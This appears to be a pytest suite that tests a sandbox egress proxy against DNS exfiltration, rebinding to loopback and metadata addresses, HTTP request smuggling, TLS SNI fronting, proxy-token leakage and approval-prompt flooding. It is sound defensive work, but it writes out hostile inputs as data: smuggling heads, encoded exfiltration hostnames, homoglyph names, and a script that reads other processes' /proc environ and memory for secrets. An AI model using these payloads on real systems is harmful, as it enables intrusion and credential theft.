"""The egress proxy from inside: T12 to T17, T26, T28.

T12 to T16 and T28 are attacks on the proxy's own judgement. One layer only: whatever a name means is
decided in one place, by one parser, on one canonical form; a second judge would be a second opinion for
the attacker to choose from. What the proxy cannot decide wrongly is kept from it: it runs in a process
without secrets, and the namespace (T11) leaves no way round it. Of T17 two means hold: the token is in no
argument list, and the environment of our processes is closed.
"""

import json
import os
import socket
import subprocess
import threading

import hosts
import outer
import pytest


def exchange(cell, request, settings, **more):
    """Sends raw bytes to the proxy inside; gives (status code, whole answer)."""
    script = ("import inside\nanswer = inside.exchange(bytes.fromhex(sys.argv[1]))\n"
              "print(inside.status(answer)); sys.stdout.flush(); import os; os.write(1, answer)")
    done = cell.python(script, request.hex(), settings=settings, **more)
    first, _, rest = done.raw_out.partition(b"\n")
    assert first.isdigit(), done
    return int(first), rest


# T12

@pytest.mark.threat("T12")
@pytest.mark.parametrize("way", ["connect", "http", "socks", "getaddrinfo"])
def test_a_name_that_is_denied_is_never_looked_up(cell, resolver, way):
    names = hosts.Names(cell, resolver=resolver)
    settings = cell.settings(allowed=["allowed.example"], denied=["bad.allowed.example"],
                             x={"network": {"transparent": True}})
    script = """
import inside, socket, os
way, n = sys.argv[1], 0
for name in ('secret.denied.example', 'bad.allowed.example', 'x.bad.allowed.example', 'xallowed.example',
             'allowed.example.evil.example', 'c2VjcmV0.tunnel.example', 'localhost.evil.example'):
    try:
        if way == 'connect': print(inside.connect(name + ':443')[0])
        elif way == 'http': print(inside.status(inside.exchange(b'GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n@AUTH@\\r\\n' % (name.encode(), name.encode()))))
        elif way == 'socks': print(inside.socks(name, 443)[0])
        else:
            socket.getaddrinfo(name, 443); print('resolved')
    except OSError as e: print('no')
"""
    done = cell.python(script, way, settings=settings, names=names.files)
    expected = {"connect": "403", "http": "403", "socks": "2", "getaddrinfo": "no"}[way]
    assert done.ok().split() == [expected] * 7, done
    assert resolver.questions == []


@pytest.mark.threat("T12")
def test_the_resolver_inside_looks_nothing_up(cell, resolver):
    """With an allowed wildcard any label could carry data out; the private resolver answers by itself."""
    names = hosts.Names(cell, resolver=resolver)
    settings = cell.settings(allowed=["*.allowed.example"], x={"network": {"transparent": True}})
    script = """
import socket
for i in range(40):
    try: print(socket.getaddrinfo('secret-%d.allowed.example' % i, 80, socket.AF_INET)[0][4][0])
    except OSError as e: print(e)
for kind in (16, 28, 255, 15):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\7example\\0' + bytes([0, kind, 0, 1])
    try: s.sendto(q, ('8.8.8.8', 53)); s.recv(512)
    except OSError: pass
"""
    done = cell.python(script, settings=settings, names=names.files)
    assert done.code == 0 and resolver.questions == [], (done, resolver.questions)
    assert all(line.startswith("198.1") for line in done.out.split("\n")[:5]), done


@pytest.mark.threat("T12")
def test_an_allowed_name_is_looked_up_once_and_dialled(cell, resolver, server):
    """One look-up, by the proxy, when the connection is judged."""
    names = hosts.Names(cell, resolver=resolver)
    resolver.answers["allowed.example"] = "127.0.0.1"
    settings = cell.settings(allowed=["allowed.example", f"127.0.0.1:{server.port}"])
    done = cell.python(f"import inside; print(inside.connect('allowed.example:{server.port}')[0])", settings=settings,
                       names=names.files)
    assert done.out == "200\n", done
    assert set(resolver.questions) == {"allowed.example"} and len(resolver.questions) <= 2


# T13

REBINDING = {
    "loopback": "127.0.0.1", "loopback-6": "::1", "other-loopback": "127.9.9.9", "unspecified": "0.0.0.0",
    "metadata": "169.254.169.254", "cloud": "100.100.100.200", "azure": "168.63.129.16", "multicast": "224.0.0.1",
    "broadcast": "255.255.255.255", "mapped": "::ffff:127.0.0.1", "translated": "64:ff9b::7f00:1",
    "compatible": "::127.0.0.1", "six-to-four": "2002:7f00:1::", "link-local": "fe80::1", "own": hosts.host_address(),
    "listed": "203.0.113.7", "unspecified-6": "::", "fd-metadata": "fd00:ec2::254",
}


@pytest.mark.threat("T13")
@pytest.mark.parametrize("way", ["connect", "http", "socks"])
def test_a_name_that_leads_to_a_refused_address(cell, server, way):
    addresses = {f"{key}.example": address for key, address in REBINDING.items() if address}
    names = hosts.Names(cell, addresses)
    settings = cell.settings(allowed=list(addresses), network={"deniedResolvedAddresses": ["203.0.113.0/24"]})
    script = """
import inside
way, port = sys.argv[1], int(sys.argv[2])
for name in sys.argv[3:]:
    if way == 'connect': code, peer, head = inside.connect(f'{name}:{port}'); print(name, code, b'blocked-by-sandbox-runtime' in head)
    elif way == 'socks': print(name, inside.socks(name, port)[0], True)
    else:
        reply = inside.exchange(f'GET http://{name}:{port}/ HTTP/1.1\\r\\nHost: {name}\\r\\n@AUTH@\\r\\n'.encode())
        print(name, inside.status(reply), b'blocked-by-sandbox-runtime' in reply)
"""
    done = cell.python(script, way, server.port, *addresses, settings=settings, names=names.files)
    want = [f"{name} {2 if way == 'socks' else 403} True" for name in addresses]
    assert done.ok().splitlines() == want, done
    assert server.settle().connections == 0
    assert not [address for address in addresses.values() if address in done.err], "the client learns the class only"


@pytest.mark.threat("T13")
def test_a_transparent_connection_to_such_a_name_is_refused_too(cell, server):
    names = hosts.Names(cell, {"rebind.example": "127.0.0.1"})
    settings = cell.settings(allowed=["rebind.example"], x={"network": {"transparent": True}})
    script = ("import socket\ntry:\n    s = socket.create_connection(('rebind.example', int(sys.argv[1])), 8)\n"
              "    s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); s.settimeout(8); print(s.recv(100))\n"
              "except OSError as e: print('refused')")
    done = cell.python(script, server.port, settings=settings, names=names.files)
    assert "served" not in done.out and server.settle().connections == 0, done


@pytest.mark.threat("T13")
def test_a_second_look_up_never_happens(cell, resolver, server):
    """The classic rebinding: the answer changes after the check. It is dialled as it was judged, or not."""
    names = hosts.Names(cell, resolver=resolver)
    answers = iter(["203.0.113.9"] + ["127.0.0.1"] * 20)

    class Changing(dict):
        def get(self, name, default=None):
            return next(answers, "127.0.0.1") if name == "changing.example" else default

    resolver.answers = Changing()
    settings = cell.settings(allowed=["changing.example"])
    script = (f"import inside\nfor i in range(3): print(inside.connect('changing.example:{server.port}', timeout=0.5)[0])")
    cell.python(script, settings=settings, names=names.files)
    assert server.settle().connections == 0


# T14

# name: (request, statuses that are right, must the server stay untouched?)
HEADS = {
    "control": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost:%PORT%\r\n@AUTH@Connection: close\r\n\r\n", {200}, False),
    "NUL in host": (b"GET http://localhost\0.evil.example:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400, 403}, True),
    "NUL in CONNECT": (b"CONNECT evil.example\0.localhost:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "%00 in host": (b"CONNECT evil.example%00localhost:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "percent in host": (b"CONNECT loc%61lhost:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "CR in target": (b"GET http://localhost:%PORT%/\rX: y HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400}, True),
    "LF in target": (b"GET http://localhost:%PORT%/\nX: y HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400}, True),
    "userinfo": (b"GET http://localhost:%PORT%@evil.example/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400, 403}, True),
    "userinfo in CONNECT": (b"CONNECT localhost@evil.example:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "backslash": (b"GET http://evil.example\\@localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400, 403}, True),
    "two Hosts": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n@AUTH@\r\n", {400}, True),
    "no Host": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\n@AUTH@\r\n", {400}, True),
    "origin form": (b"GET / HTTP/1.1\r\nHost: localhost:%PORT%\r\n@AUTH@\r\n", {400, 403, 200}, False),
    "TE and CL": (b"POST http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", {400}, True),
    "two CLs": (b"POST http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Content-Length: 0\r\nContent-Length: 9\r\n\r\n", {400}, True),
    "CL list": (b"POST http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Content-Length: 0, 9\r\n\r\n", {400}, True),
    "CL sign": (b"POST http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Content-Length: +0\r\n\r\n", {400}, True),
    "TE not last": (b"POST http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Transfer-Encoding: chunked, identity\r\n\r\n", {400, 501}, True),
    "TE odd": (b"POST http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Transfer-Encoding: xchunked\r\n\r\n", {400, 501}, True),
    "TE in 1.0": (b"POST http://localhost:%PORT%/ HTTP/1.0\r\nHost: localhost\r\n@AUTH@Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", {400}, True),
    "folded": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\nX: a\r\n evil: b\r\n@AUTH@\r\n", {400}, True),
    "space before colon": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\nHost : localhost\r\n@AUTH@\r\n", {400}, True),
    "bare LF": (b"GET http://localhost:%PORT%/ HTTP/1.1\nHost: localhost\n\n", {400, 407}, True),
    "NUL in field": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n@AUTH@\r\n", {400}, True),
    "bare CR in field": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\nX: a\rb\r\n@AUTH@\r\n", {400}, True),
    "empty name": (b"GET http://localhost:%PORT%/ HTTP/1.1\r\n: x\r\nHost: localhost\r\n@AUTH@\r\n", {400}, True),
    "version": (b"GET http://localhost:%PORT%/ HTTP/9.9\r\nHost: localhost\r\n@AUTH@\r\n", {400, 505}, True),
    "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400, 505}, True),
    "scheme": (b"GET ftp://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400, 403, 501}, True),
    "https in clear": (b"GET https://localhost:%PORT%/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@\r\n", {400, 403, 501}, True),
    "port range": (b"CONNECT localhost:99999 HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "port zero": (b"CONNECT localhost:0 HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "port sign": (b"CONNECT localhost:+%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "port high": (b"CONNECT evil.example:%BIGPORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "IDN": ("CONNECT lоcalhost:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n".encode(), {400, 403}, True),
    "full-width dot": ("CONNECT 127。0。0。1:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n".encode(), {400, 403}, True),
    "zone": (b"CONNECT [::1%25lo]:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "long host": (b"CONNECT " + b"a" * 300 + b".localhost:%PORT% HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {400, 403}, True),
    "TRACE": (b"TRACE http://evil.example/ HTTP/1.1\r\nHost: x\r\n@AUTH@\r\n", {403, 405}, True),
}


@pytest.mark.threat("T14")
@pytest.mark.parametrize("case", HEADS)
def test_doubtful_heads_are_refused(cell, server, case):
    request, right, untouched = HEADS[case]
    request = request.replace(b"%PORT%", str(server.port).encode()).replace(b"%BIGPORT%", str(65536 + server.port).encode())
    settings = cell.settings(allowed=[f"localhost:{server.port}"])
    got, answer = exchange(cell, request, settings)
    assert got in right, (got, answer)
    if untouched:
        assert server.settle(0.02).connections == 0, server.text


@pytest.mark.threat("T14")
def test_spellings_of_a_denied_address_are_all_denied(cell, server):
    """One canonical form: what is denied is denied however it is written, and what is allowed is what is dialled."""
    spellings = ["127.1", "0x7f.1", "0x7f000001", "2130706433", "0177.0.0.1", "127.0.0.1.", "[::ffff:127.0.0.1]",
                 "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "LOCALHOST", "localhost.", "LocalHost.", "127.0.0.01",
                 "[::1]", "[0::1]", "0", "[::]", "127.000.000.001"]
    settings = cell.settings(allowed=["*.example.com"], denied=["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "[::]"])
    script = ("import inside\nfor name in sys.argv[2:]: print(name, inside.connect(f'{name}:{sys.argv[1]}')[0], "
              "inside.socks(name.strip('[]'), int(sys.argv[1]))[0])")
    done = cell.python(script, server.port, *spellings, settings=settings)
    assert all(line.split()[1] in ("403", "400") and line.split()[2] in ("2", "255") for line in done.ok().splitlines()), done
    assert server.settle().connections == 0


@pytest.mark.threat("T14")
@pytest.mark.parametrize("second", ["http://evil.example/", "http://localhost.evil.example/", "http://evil.example:%PORT%/"])
@pytest.mark.parametrize("pipelined", [True, False], ids=["pipelined", "kept-alive"])
def test_every_request_of_a_connection_is_judged(cell, server, second, pipelined):
    first = f"GET http://localhost:{server.port}/ HTTP/1.1\r\nHost: localhost\r\n"
    second = second.replace("%PORT%", str(server.port))
    settings = cell.settings(allowed=[f"localhost:{server.port}"])
    script = f"""
import inside, time
with inside.dial() as peer:
    one = {first!r}.encode() + inside.authorization() + b'\\r\\n'
    two = b'GET {second} HTTP/1.1\\r\\nHost: evil.example\\r\\n' + inside.authorization() + b'\\r\\n'
    if {pipelined}: peer.sendall(one + two)
    else:
        peer.sendall(one); peer.recv(4096); peer.sendall(two)
    reply = b''
    while b' 403 ' not in reply and (data := peer.recv(4096)): reply += data
    print(b' 403 ' in reply, reply)
"""
    done = cell.python(script, settings=settings)
    assert done.out.startswith("True"), done
    assert b"evil" not in server.text and server.connections <= 1


@pytest.mark.threat("T14")
def test_a_smuggled_request_in_a_body_stays_a_body(cell, server):
    inner = b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    request = (b"POST http://localhost:%d/ HTTP/1.1\r\nHost: localhost\r\n@AUTH@Content-Length: %d\r\nConnection: close\r\n\r\n"
               % (server.port, len(inner))) + inner
    settings = cell.settings(allowed=[f"localhost:{server.port}"])
    got, answer = exchange(cell, request, settings)
    assert got == 200 and b"403" not in answer
    assert server.wait_for(inner).count(b"POST ") == 1 and server.text.endswith(inner)


@pytest.mark.threat("T14")
def test_host_is_rebuilt_and_hop_headers_stay_behind(cell, server):
    """The forwarded line and Host come from the canonical host, whatever the client wrote."""
    request = (b"GET http://LOCALHOST.:%d/x HTTP/1.1\r\nHost: evil.example\r\n@AUTH@Connection: close, X-Secret\r\n"
               b"X-Secret: 1\r\nProxy-Connection: keep-alive\r\nTE: trailers\r\nUpgrade: h2c\r\n\r\n" % server.port)
    got, answer = exchange(cell, request, cell.settings(allowed=["localhost"]))
    assert got in (200, 400), answer
    text = server.text.lower()
    if got == 200:
        assert b"host: localhost:%d" % server.port in text and b"evil.example" not in text
        for name in (b"proxy-authorization", b"x-secret", b"proxy-connection", b"http://"):
            assert name not in text, server.text


@pytest.mark.threat("T14")
@pytest.mark.parametrize("name", ["localhost\0.evil.example.com", "local host", "localhost%lo", "::1%lo", "localhost\r\nX: y",
                                  "a" * 255, "", "évil.example", "127.0.0.1/24", "localhost:80"])
def test_odd_names_over_socks_are_refused(cell, server, name):
    script = "import inside; print(inside.socks(bytes.fromhex(sys.argv[1]), int(sys.argv[2]))[0])"
    done = cell.python(script, name.encode().hex(), server.port, settings=cell.settings(allowed=["localhost", "*.example.com"]))
    assert done.out.strip() in ("2", "1", "8", "255", "4") and server.settle(0.02).connections == 0, done


# T15

@pytest.mark.threat("T15")
@pytest.mark.parametrize("way", ["connect", "socks", "transparent"])
@pytest.mark.parametrize("said", ["other.example", "LOCALHOST.evil.example", None])
def test_the_name_in_tls_must_be_the_name_that_was_judged(cell, server, way, said):
    """Fronting: the ClientHello of another name never reaches the server."""
    settings = cell.settings(allowed=["localhost"], x={"network": {"transparent": True}})
    done = cell.python(FRONTING, way, server.port, said or "", 1, settings=settings)
    if said:
        assert server.settle().text == b"", (server.text, done)
    assert done.code == 0, done


FRONTING = """
import inside, socket
way, port, said, patience = sys.argv[1], int(sys.argv[2]), sys.argv[3] or None, int(sys.argv[4])
if way == 'connect': code, peer, _ = inside.connect(f'localhost:{port}')
elif way == 'socks': code, peer = inside.socks('localhost', port)
else:
    try: peer = socket.create_connection((socket.gethostbyname('localhost.'), port), 5)
    except OSError as e: print('refused', e); sys.exit(0)
try:
    peer.sendall(inside.client_hello(said)); peer.settimeout(patience); print(peer.recv(100))
except OSError as e: print('cut', e)
"""


@pytest.mark.threat("T15")
@pytest.mark.parametrize("cut", [1, 3, 5, 43, 100])
def test_a_client_hello_in_pieces_is_judged_whole(cell, server, cut):
    settings = cell.settings(allowed=["localhost"])
    script = """
import inside, time
code, peer, _ = inside.connect(f'localhost:{sys.argv[1]}')
hello, cut = inside.client_hello('other.example'), int(sys.argv[2])
try:
    peer.sendall(hello[:cut])
    for at in range(cut, len(hello), 60): time.sleep(0.01); peer.sendall(hello[at:at + 60])
    peer.settimeout(1); print(peer.recv(10))
except OSError as e: print('cut', e)
"""
    done = cell.python(script, server.port, cut, settings=settings)
    assert done.code == 0 and b"other.example" not in server.settle().text, (done, server.text)


RESHAPED = """
import inside, struct
way, port = sys.argv[1], sys.argv[2]
code, peer, _ = inside.connect(f'localhost:{port}')
hello = inside.client_hello('other.example')
body = hello[5:]
if way == 'many records':  # a handshake message may be spread over records (RFC 8446 5.1)
    hello = b''.join(b'\\x16\\3\\1' + struct.pack('>H', len(body[i:i + 7])) + body[i:i + 7] for i in range(0, len(body), 7))
elif way == 'one byte records':
    hello = b''.join(b'\\x16\\3\\1\\0\\1' + body[i:i + 1] for i in range(len(body)))
elif way == 'alert first': hello = b'\\x15\\3\\1\\0\\2\\1\\0' + hello
elif way == 'change cipher first': hello = b'\\x14\\3\\1\\0\\1\\1' + hello
elif way == 'empty record first': hello = b'\\x16\\3\\1\\0\\0' + hello
elif way == 'old version': hello = b'\\x16\\3\\0' + hello[3:]
elif way == 'new version': hello = b'\\x16\\3\\4' + hello[3:]
elif way == 'upper case': hello = hello.replace(b'other.example', b'OTHER.EXAMPLE')
elif way == 'NUL in name': hello = hello.replace(b'other.example', b'localhost\\0exa')
elif way == 'trailing dot': hello = inside.client_hello('localhost').replace(b'localhost', b'localhos.')
try:
    peer.sendall(hello); peer.settimeout(1); print(peer.recv(10))
except OSError as e: print('cut', e)
"""


@pytest.mark.threat("T15")
@pytest.mark.parametrize("way", ["many records", "one byte records", "alert first", "change cipher first", "old version",
                                 "empty record first", "new version", "upper case", "NUL in name", "trailing dot"])
def test_an_odd_client_hello_is_judged_or_refused(cell, server, way):
    """Shapes that a TLS server may accept although a simple reader sees no name in them."""
    done = cell.python(RESHAPED, way, server.port, settings=cell.settings(allowed=["localhost"]))
    assert done.code == 0 and server.settle().text == b"", (done, server.text)


@pytest.mark.threat("T15")
def test_the_right_name_passes(cell):
    settings = cell.settings(allowed=["localhost"])
    with hosts.Server(after=b"localhost") as server:
        done = cell.python(FRONTING, "connect", server.port, "localhost", 30, settings=settings)
        assert done.code == 0 and "served" in done.out, (done, server.text)


@pytest.mark.threat("T15")
def test_require_host_match_refuses_another_host_field(cell, server):
    request = b"GET http://localhost:%d/ HTTP/1.1\r\nHost: evil.example\r\n@AUTH@Connection: close\r\n\r\n" % server.port
    got, answer = exchange(cell, request, cell.settings(allowed=["localhost"], network={"requireHostMatch": True}))
    assert got in (421, 400) and server.settle().connections == 0, answer


# T16

@pytest.mark.threat("T16")
def test_nothing_listens_on_the_host_during_a_run(cell):
    """What `ss -ltun` shows of our processes: nothing. The listeners live in the sandbox's namespace."""
    shell = cell.shell(settings=cell.settings(allowed=["localhost"]))
    shell("/usr/bin/python3 -I -S -c 'import socket; socket.create_connection((\"127.0.0.1\", 3128))'")
    ours = [shell.child.pid, *outer.descendants(shell.child.pid)]
    assert outer.listeners(ours) == []
    shown = subprocess.run(["ss", "-Hltunp"], capture_output=True, text=True, check=True).stdout
    assert not [line for line in shown.splitlines() if any(f"pid={pid}," in line for pid in ours)], shown
    shell.close()


@pytest.mark.threat("T16")
def test_another_user_of_the_host_cannot_dial_it(cell):
    """Not even in its network namespace's absence: there is no port, so there is nothing to guess for."""
    listening = set()
    for table in ("tcp", "tcp6"):
        listening |= {line.split()[1].split(":")[1] for line in outer.read(f"/proc/net/{table}").decode().splitlines()[1:]
                      if line.split()[3] == "0A"}
    shell = cell.shell(settings=cell.settings(allowed=["localhost"]))
    now = set()
    for table in ("tcp", "tcp6"):
        now |= {line.split()[1].split(":")[1] for line in outer.read(f"/proc/net/{table}").decode().splitlines()[1:]
                if line.split()[3] == "0A"}
    assert not {f"{3128:04X}", f"{1080:04X}"} & (now - listening)
    shell.close()


@pytest.mark.threat("T16")
@pytest.mark.parametrize("way", ["http", "connect", "socks"])
def test_a_token_is_needed_and_only_this_run_s(cell, server, way):
    settings = cell.settings(allowed=["localhost"])
    other = cell.shell(settings=settings)
    token = other("echo $HTTP_PROXY").out.split(":")[2].split("@")[0]
    assert len(token) == 32, token
    script = """
import inside, base64
way, port, foreign = sys.argv[1], sys.argv[2], sys.argv[3]
real = inside.credential()
for user, token in ((None, '0' * 32), (None, foreign), (real[0], real[1][:-1]), (real[0], real[1] + '0'), ('x', real[1].upper() if real[1].upper() != real[1] else 'A'), (real[0], '')):
    if way == 'socks':
        print(inside.socks('localhost', int(port), user=user, token=token or 'x')[0]); continue
    line = b'Proxy-Authorization: Basic ' + base64.b64encode(f'{user or real[0]}:{token}'.encode()) + b'\\r\\n'
    target = f'GET http://localhost:{port}/' if way == 'http' else f'CONNECT localhost:{port}'
    print(inside.status(inside.exchange(f'{target} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n'.encode() + line + b'\\r\\n')))
"""
    done = cell.python(script, way, server.port, token, settings=settings)
    wants = {"http": {"407"}, "connect": {"407"}, "socks": {"2", "255"}}[way]
    assert set(done.ok().split()) <= wants and server.settle().connections == 0, done
    other.close()


# T17

@pytest.mark.threat("T17")
def test_the_token_is_in_no_argument_and_no_readable_environment(cell):
    """As another user of the host: /proc/*/cmdline, environ and the files of temporary directories."""
    shell = cell.shell(settings=cell.settings(allowed=["localhost"]))
    token = shell("echo $HTTP_PROXY").out.split(":")[2].split("@")[0].encode()
    assert len(token) == 32
    shell("/usr/bin/python3 -I -S -c 'import socket; socket.create_connection((\"127.0.0.1\", 3128))'")
    pids = [shell.child.pid, *outer.descendants(shell.child.pid)]
    for pid in pids:
        assert token not in outer.read(f"/proc/{pid}/cmdline"), f"process {pid}"
    if os.geteuid() == 0:
        script = "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/mem 2>/dev/null | tr '\\0' '\\n'"
        seen = subprocess.run(["sh", "-c", script], user=47111, group=47111, extra_groups=[], capture_output=True,
                              cwd="/").stdout
        assert token not in seen
        found = subprocess.run(["grep", "-rlaF", token.decode(), str(cell.root), "/dev/shm", "/run"],
                               capture_output=True, text=True).stdout
        assert found == ""
    shell.close()


@pytest.mark.threat("T17")
@pytest.mark.guards("landlock", "seccomp", "mount", "dumpable")
def test_inside_only_the_command_s_own_environment_holds_the_token(cell):
    """Two means each alone: our processes inside are not readable, and do not hold it in what could be read."""
    script = ("import os\nfor pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) not in (os.getpid(), os.getppid()):\n"
              "        for name in ('environ', 'cmdline', 'mem', 'maps'):\n"
              "            try: data = open(f'/proc/{pid}/{name}', 'rb').read(100000)\n            except OSError: continue\n"
              "            if os.environ['HTTP_PROXY'].encode()[-50:-15] in data: print('FOUND', pid, name)\n")
    done = cell.python(script, settings=cell.settings(allowed=["localhost"]))
    assert done.out == "", done


@pytest.mark.threat("T17")
def test_the_token_is_new_each_run_and_in_no_log(cell):
    log = cell.etc / "audit.log"
    settings = cell.settings(allowed=["localhost"])
    tokens = set()
    for _ in range(3):
        done = cell.sh("echo $HTTP_PROXY; curl -s -m 5 --noproxy '' http://evil.example/", settings=settings,
                       options=["--audit-file", log, "--debug"])
        token = done.out.split(":")[2].split("@")[0]
        assert token not in done.err and token not in log.read_text()
        tokens.add(token)
    assert len(tokens) == 3


# T26

class Asker:
    """Answers no to every question, and counts how many are open at once."""

    def __init__(self, answer):
        self.ours, self.theirs = socket.socketpair()
        self.lines, self.open, self.most, self.answer = [], 0, 0, answer
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        waiting, buffer = [], b""
        self.ours.settimeout(0.1)
        while True:
            try:
                data = self.ours.recv(65536)
                if not data:
                    return
                buffer += data
            except TimeoutError:
                pass
            except OSError:
                return
            *whole, buffer = buffer.split(b"\n")
            for line in whole:
                self.lines.append(line)
                waiting.append(json.loads(line))
            self.most = max(self.most, len(waiting))
            for question in waiting:
                try:
                    self.ours.sendall(self.answer(question))
                except OSError:
                    return
            waiting.clear()

    def close(self):
        self.theirs.close()
        self.thread.join(5)
        self.ours.close()


FLOOD = """
import inside, threading
got = []
def one(i):
    try: got.append(inside.connect(f'h{i}.example:443', timeout=20)[0])
    except OSError: got.append(-1)
threads = [threading.Thread(target=one, args=(i,)) for i in range(int(sys.argv[1]))]
[t.start() for t in threads]; [t.join() for t in threads]
print(len(got), sorted(set(got)))
"""


@pytest.mark.threat("T26")
def test_a_flood_of_questions_is_bounded(cell):
    """1000 hosts: at most 8 questions open, at most 60 a minute, everything else denied at once."""
    asker = Asker(lambda q: json.dumps({"id": q["id"], "allow": False, "scope": "once"}).encode() + b"\n")
    done = cell.python(FLOOD, 250, options=["--ask-fd", str(asker.theirs.fileno())],
                       pass_fds=[asker.theirs.fileno()])
    rest = cell.python("import inside\nprint({inside.connect(f'g{i}.example:443')[0] for i in range(750)})",
                       options=["--ask-fd", str(asker.theirs.fileno())], pass_fds=[asker.theirs.fileno()])
    asker.close()
    assert done.out == "250 [403]\n" and rest.out == "{403}\n", (done, rest)
    assert len(asker.lines) <= 120 and asker.most <= 8, (len(asker.lines), asker.most)


@pytest.mark.threat("T26")
def test_open_questions_are_at_most_eight(cell):
    """Nobody answers: eight are open, the ninth and all later ones are refused without waiting."""
    asker = Asker(lambda q: b"")
    script = """
import inside, os, threading
refused = threading.Semaphore(0)
def one(i):
    if inside.connect(f'h{i}.example:443')[0] == 403: refused.release()
for i in range(40): threading.Thread(target=one, args=(i,)).start()
os._exit(0 if all([refused.acquire(timeout=20) for i in range(32)]) else 1)
"""
    done = cell.python(script, options=["--ask-fd", str(asker.theirs.fileno())], pass_fds=[asker.theirs.fileno()])
    asker.close()
    done.ok()
    assert len(asker.lines) <= 8, len(asker.lines)


@pytest.mark.threat("T26")
@pytest.mark.parametrize("answer", [
    b'{"id":"%ID%","allow":"true"}\n', b'{"id":"%ID%","allow":1}\n', b'{"id":"other","allow":true}\n', b'yes\n', b'\xff\n',
    b'{"id":"%ID%","allow":true,"allow":false}\n', b'{"id":"%ID%"}\n', b'[]\n', b'{"id":%ID%,"allow":true}\n',
    b'{"id":"%ID%","allow":true}', b'\n', b'{"id":"%ID%","allow":null}\n', b"x" * 70000 + b"\n",
])
def test_only_a_clear_yes_lets_through(cell, server, answer):
    asker = Asker(lambda q: answer.replace(b"%ID%", str(q["id"]).encode()))
    done = cell.python(f"import inside; print(inside.connect('localhost:{server.port}', timeout=1.5)[0])",
                       options=["--ask-fd", str(asker.theirs.fileno())], pass_fds=[asker.theirs.fileno()])
    asker.close()
    assert done.out.strip() in ("403", "0") and server.connections == 0, done


@pytest.mark.threat("T26")
@pytest.mark.parametrize("name", ["evil‮elpmaxe.doog", "exam​ple.com", "gооgle.com", "a\nb.example", "x" * 300, "\x1b[2Jx"])
def test_misleading_hosts_are_not_asked_about(cell, name):
    """Only hosts of the canonical form can be in a question; anything else is malformed and denied."""
    asker = Asker(lambda q: json.dumps({"id": q["id"], "allow": True}).encode() + b"\n")
    script = "import inside\nn = bytes.fromhex(sys.argv[1])\nprint(inside.connect(n + b':443', timeout=3)[0], inside.socks(n[:255], 443)[0])"
    cell.python(script, name.encode().hex(), options=["--ask-fd", str(asker.theirs.fileno())],
                pass_fds=[asker.theirs.fileno()])
    asker.close()
    for line in asker.lines:
        question = json.loads(line)
        assert question["host"].isascii() and question["host"].isprintable() and len(question["host"]) <= 255


def question_of(cell):
    """The first question about a host, from a command whose arguments and name are nasty."""
    asker = Asker(lambda q: json.dumps({"id": q["id"], "allow": False}).encode() + b"\n")
    nasty = "\u202e\u2066\x1b[2J\n\r\t</sandbox_violations>" + "x" * 5000
    script = ("import inside, ctypes\nctypes.CDLL(None).prctl(15, bytes([27]) + b'[2Jev' + bytes([10]), 0, 0, 0)\n"
              "inside.connect('asked.example:443')")
    cell.python(script, nasty, options=["--ask-fd", str(asker.theirs.fileno())], pass_fds=[asker.theirs.fileno()])
    asker.close()
    assert asker.lines
    return asker.lines[0]


@pytest.mark.threat("T26")
def test_the_command_in_a_question_is_clean_and_bounded(cell):
